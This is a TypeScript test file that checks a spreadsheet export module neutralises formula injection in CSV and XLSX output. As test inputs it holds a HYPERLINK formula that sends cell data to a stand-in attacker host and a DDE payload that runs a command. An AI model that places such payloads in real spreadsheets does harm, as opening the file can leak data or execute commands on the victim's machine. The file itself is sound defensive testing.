import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, toCsv, toXlsx } from "@/lib/export/spreadsheet";

const HYPERLINK = '=HYPERLINK("https://aanval.example/?d="&A1,"Klik hier voor de bijlage")';
const STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];

describe("neutraliseFormula", () => {
  it.each([
    HYPERLINK,
    "=1+1",
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    " \n\t-1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
  ])("puts an apostrophe before %j", (value) => {
    expect(neutraliseFormula(value)).toBe(`'${value}`);
  });

  it.each(["Meer tijd voor begeleiding", "", "a=b", "€ 54,50", "'al tekst", "[CONCURRENTIEGEVOELIG] =1+1", "Çelik"])(
    "leaves %j as it is",
    (value) => {
      expect(neutraliseFormula(value)).toBe(value);
    },
  );
});

const readCsv = (csv: string) => parse(csv, { delimiter: ";", bom: true, relax_column_count: true });

describe("toCsv", () => {
  it("shows a provider's HYPERLINK answer as text, quoted and otherwise unchanged", () => {
    const csv = toCsv([
      ["Respondent", "Antwoord"],
      ["=Zorg BV", HYPERLINK],
    ]);
    expect(csv.startsWith("\uFEFFRespondent;Antwoord")).toBe(true);
    expect(readCsv(csv)).toEqual([
      ["Respondent", "Antwoord"],
      ["'=Zorg BV", `'${HYPERLINK}`],
    ]);
  });

  it("never lets a cell start a formula, and changes nothing else", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(
            fc.oneof(
              fc.string(),
              fc.constantFrom(...STARTS).chain((s) => fc.string().map((t) => s + t)),
            ),
          ),
          {
            minLength: 1,
          },
        ),
        (cells) => {
          // A row of one empty cell is an empty line, which a reader skips.
          const table = cells
            .map((row) => (row.length ? row : ["x"]))
            .map((row) => (row.join("") ? row : [...row, "x"]));
          const back = readCsv(toCsv(table));
          table.forEach((row, i) =>
            row.forEach((value, j) => {
              const cell = back[i]![j]!;
              expect(STARTS.some((s) => cell.trimStart().startsWith(s) || cell.startsWith(s))).toBe(false);
              expect(cell === value || cell === `'${value}`).toBe(true);
            }),
          );
        },
      ),
    );
  });
});

describe("toXlsx", () => {
  it("writes every cell as text, neutralised, and no formula at all", async () => {
    const xlsx = await toXlsx([
      ["Respondent", "Antwoord"],
      ["@Zorg BV", HYPERLINK],
      ["Wijkzorg", "Meer tijd"],
    ]);
    const files = unzipSync(xlsx);
    const sheet = strFromU8(files["xl/worksheets/sheet1.xml"]!);
    const unescape = (s: string) =>
      s.replace(
        /&(amp|lt|gt|quot|apos);/g,
        (_, e: string) => ({ amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" })[e]!,
      );
    const shared = [...strFromU8(files["xl/sharedStrings.xml"]!).matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) =>
      unescape(m[1]!),
    );
    expect(sheet).not.toMatch(/<f[ >]/);
    // Every cell refers to a shared string: text, not a number or a formula.
    const cells = [...sheet.matchAll(/<c [^>]*>/g)].map((m) => m[0]);
    expect(cells).toHaveLength(6);
    for (const cell of cells) expect(cell).toMatch(/ t="s"/);
    expect(shared).toEqual(["Respondent", "Antwoord", "'@Zorg BV", `'${HYPERLINK}`, "Wijkzorg", "Meer tijd"]);
  });
});
